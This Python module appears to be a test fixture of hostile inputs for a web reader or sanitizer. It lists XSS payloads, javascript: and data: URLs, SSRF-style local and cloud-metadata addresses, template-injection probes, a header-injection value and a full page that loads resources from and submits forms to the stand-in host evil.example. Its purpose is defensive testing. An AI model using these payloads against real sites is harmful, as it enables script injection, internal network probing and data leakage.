"""What hostile pages try in a reader's browser: texts for every field, addresses, fragments and whole pages.

Whoever gets through calls `pwned()`, sets `window.pwned` or `document.title`, or asks something of evil.example.
"""

EVIL = "evil.example"

TEXTS = (
    "<script>pwned()</script>",
    "</title><script>pwned()</script>",
    "</textarea></style></noscript><script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    f"<img src=//{EVIL}/text.png>",
    "<svg onload=pwned()>",
    "<svg><style><img src=x onerror=pwned()></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwned()&gt;">',
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    f"<iframe src=//{EVIL}/frame></iframe>",
    f"<meta http-equiv=refresh content='0;url=//{EVIL}/'>",
    f"<base href=//{EVIL}/>",
    f"<link rel=stylesheet href=//{EVIL}/style.css>",
    f"<form action=//{EVIL}/><button>",
    '" onmouseover="pwned()" autofocus onfocus="pwned()" x="',
    "' onmouseover='pwned()' x='",
    "`onmouseover=pwned()`",
    "{{ 7 * 7 }}{% for x in () %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "<scr\x00ipt>pwned()</scr\x00ipt>",
    "\u202etxet desrever\u202c \x1b[31m \x07 \x9b31m",
    "<!--><script>pwned()</script>-->",
    "]]><script>pwned()</script>",
    "<a href=javascript:pwned()>click</a>",
    "<details open ontoggle=pwned()>",
    "<video><source onerror=pwned()></video>",
    "<input autofocus onfocus=pwned()>",
    "<p style='background:url(//evil.example/bg)'>",
    '=HYPERLINK("http://evil.example/")',
    "<" * 200 + "b" + ">" * 200,
)
"""Texts for titles, authors, captions, tags, names …"""

ADDRESSES = (
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    " javascript:pwned()",
    "java\tscript:pwned()",
    "\x01javascript:pwned()",
    "data:text/html,<script>pwned()</script>",
    "vbscript:pwned()",
    'http://" onmouseover="pwned()',
    'http://a.example/"><script>pwned()</script>',
    "http://a.example/'><img src=x onerror=pwned()>",
    "//evil.example/schemeless",
    "file:///etc/passwd",
    "http://[::1/unclosed",
    "http://a.example/){}(\\",
)
"""Addresses for pictures, attachments, editions and sources."""

LOCAL_ADDRESSES = (
    "http://127.0.0.1:8080/delete.png",
    "http://localhost/x.png",
    "http://192.168.0.1/reboot.png",
    "http://[::1]/x.png",
    "http://0x7f.1/x.png",
    "http://2130706433/x.png",
    "http://router.local/x.png",
    "http://intranet/x.png",
    "http://169.254.169.254/latest/meta-data",
    "http://user:secret@a.example/x.png",
    "http://a.example:22/x.png",
    "http://a.example;script-src *;/x.png",
    "http://a.example,http://evil.example/x.png",
    "ftp://a.example/x.png",
)
"""Addresses that no page may make a reader's browser fetch as a picture."""

FRAGMENTS = (
    *TEXTS,
    "</div></article></main><script>pwned()</script><div>",
    "<p onclick=pwned() style=color:red id=q class=masthead>Text</p>",
    "<p>Text<a href=javascript:pwned()>link</a></p>",
    "<table><tr><td onmouseover=pwned()>cell</td></tr></table>",
    "<h2><script>pwned()</script>Heading</h2>",
    "<p><p><blockquote><ul><li><ol><li><table><tr><th>" * 40,
    '<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>',
    "<style>@import '//evil.example/x.css'; p { background: url(//evil.example/y) }</style><p>Styled</p>",
    "<xmp><script>pwned()</script></xmp><plaintext><script>pwned()</script>",
    "<template><script>pwned()</script></template><select><option><script>pwned()</script></select>",
    '<svg><p><style><g title="</style><img src=x onerror=pwned()>"></style></p></svg>',
)
"""Stored fragments, for the text of an article."""

ATTACKS = """
<base href="http://evil.example/">
<meta http-equiv="refresh" content="0; url=http://evil.example/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<link rel="stylesheet" href="http://evil.example/style.css">
<link rel="icon" href="http://evil.example/icon.png">
<link rel="preload" as="image" href="http://evil.example/preload.png">
<link rel="prefetch" href="http://evil.example/prefetch">
<link rel="manifest" href="http://evil.example/manifest">
<link rel="preconnect" href="http://evil.example">
<link rel="dns-prefetch" href="http://evil.example">
<link rel="modulepreload" href="http://evil.example/module.js">
<script>window.pwned = true; document.title = "pwned"; fetch("http://evil.example/fetch"); top.pwned = true;</script>
<script src="http://evil.example/script.js"></script>
<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["http://evil.example/speculation"]}]}</script>
<style>@import url(http://evil.example/import.css); body { background: url(http://evil.example/background.png) }
@font-face { font-family: x; src: url(http://evil.example/font.woff) } p { font-family: x }</style>
<img src="http://evil.example/picture.png" onerror="window.pwned = true" srcset="http://evil.example/2x.png 2x">
<picture><source srcset="http://evil.example/source.png"><img src="http://evil.example/img.png"></picture>
<video src="http://evil.example/video.mp4" poster="http://evil.example/poster.png" autoplay></video>
<audio src="http://evil.example/audio.mp3" autoplay></audio>
<object data="http://evil.example/object"></object><embed src="http://evil.example/embed">
<iframe src="http://evil.example/frame"></iframe>
<iframe srcdoc="<script>parent.pwned = top.pwned = true</script>"></iframe>
<iframe src="javascript:parent.pwned = true"></iframe>
<form id="f" action="http://evil.example/form"><input name="a" value="b"></form>
<script>document.getElementById("f").submit(); location = "http://evil.example/location"</script>
<svg onload="window.pwned = true"><image href="http://evil.example/svg.png"/><use href="http://evil.example/use#x"/></svg>
<input autofocus onfocus="window.pwned = true"><details open ontoggle="window.pwned = true"></details>
<a href="http://evil.example/ping" ping="http://evil.example/pinged">link</a>
<p>Read me.</p>
"""

PAGES = (
    ("text/html; charset=utf-8", f"<!doctype html><html><head><title>Page</title></head><body>{ATTACKS}".encode()),
    ("text/html", f"<html>{ATTACKS}".encode("utf-16")),
    ("text/html; charset=utf-7", b"<html>+ADw-script+AD4-window.pwned+AD0-true+ADw-/script+AD4-<p>Read me.</p>"),
    (
        "application/xhtml+xml",
        b'<html xmlns="http://www.w3.org/1999/xhtml"><script>window.pwned = true</script><p>Read me.</p></html>',
    ),
    (
        "image/svg+xml",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned = true"><text>Read me.</text></svg>',
    ),
    ("text/xml", b"<?xml version='1.0'?><?xml-stylesheet href='http://evil.example/x.xsl'?><p>Read me.</p>"),
    ("text/javascript", b"window.pwned = true // <p>Read me.</p>"),
    ('text/html; charset="x\r\nSet-Cookie: pwned=1"', b"<p>Read me.</p>"),
)
"""Stored pages: what the server called them, and their bytes."""
